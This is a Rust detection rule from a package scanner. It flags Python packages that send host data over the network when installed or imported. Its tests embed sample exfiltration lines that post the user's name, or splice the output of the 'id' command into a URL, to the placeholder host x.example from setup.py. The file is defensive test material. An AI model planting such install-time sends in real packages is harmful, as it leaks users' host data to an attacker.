//! `SA-035` host data sent when installed or imported (threat). Finds a network call that runs
//! with the module itself (not inside a function) in a file the install or an import runs,
//! and sends something of the host's: a body, query or file built from computed values, or a
//! URL spliced with the user, the host name or a command's output.
//!
//! Why: a library has nothing to report the moment it is installed or imported; a
//! dependency-confusion probe or a stealer's first stage does exactly that. Example: at the
//! top of `setup.py`, `requests.post(u, data={"user": getpass.getuser()})`. Known false
//! positives: install-time telemetry of build tools; GETs of fixed URLs (a version check)
//! and downloads are not sends and do not fire.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule = Rule {
    id: "SA-035",
    name: "host data sent when installed or imported",
    kind: Kind::Threat,
    behaviour: Behaviour::Probe,
    weight: 5,
};

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    if !(ctx.place.install || ctx.place.import) {
        return;
    }
    if let Some(line) = ctx.facts.module_sends.first() {
        out.push(Hit::new(&RULE, *line, "sends computed data over the network as the module runs"));
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn a_send_at_module_level_on_the_install_path_fires() {
        let probe = "import requests, getpass\nrequests.post('https://x.example/', data={'u': getpass.getuser()})\n";
        assert!(fired("setup.py", probe, INSTALL).contains(&"SA-035"));
        let spliced =
            "import os, urllib.request\nurllib.request.urlopen('http://x.example/?' + os.popen('id').read())\n";
        assert!(fired("pkg/__init__.py", spliced, INSTALL).contains(&"SA-035"));
    }

    #[test]
    fn near_misses() {
        let probe = "import requests, getpass\nrequests.post('https://x.example/', data={'u': getpass.getuser()})\n";
        assert!(!fired("pkg/report.py", probe, LIBRARY).contains(&"SA-035"), "not on the install path");
        let in_function = "import requests\ndef report(d):\n    requests.post('https://x.example/', json=d)\n";
        assert!(!fired("setup.py", in_function, INSTALL).contains(&"SA-035"));
        let download = "import urllib.request\nurllib.request.urlretrieve(f'https://x.example/{v}.tgz', 'a.tgz')\n";
        assert!(!fired("setup.py", download, INSTALL).contains(&"SA-035"));
        let fixed = "import requests\nrequests.post('https://x.example/', json={'event': 'install'})\n";
        assert!(!fired("setup.py", fixed, INSTALL).contains(&"SA-035"));
    }
}
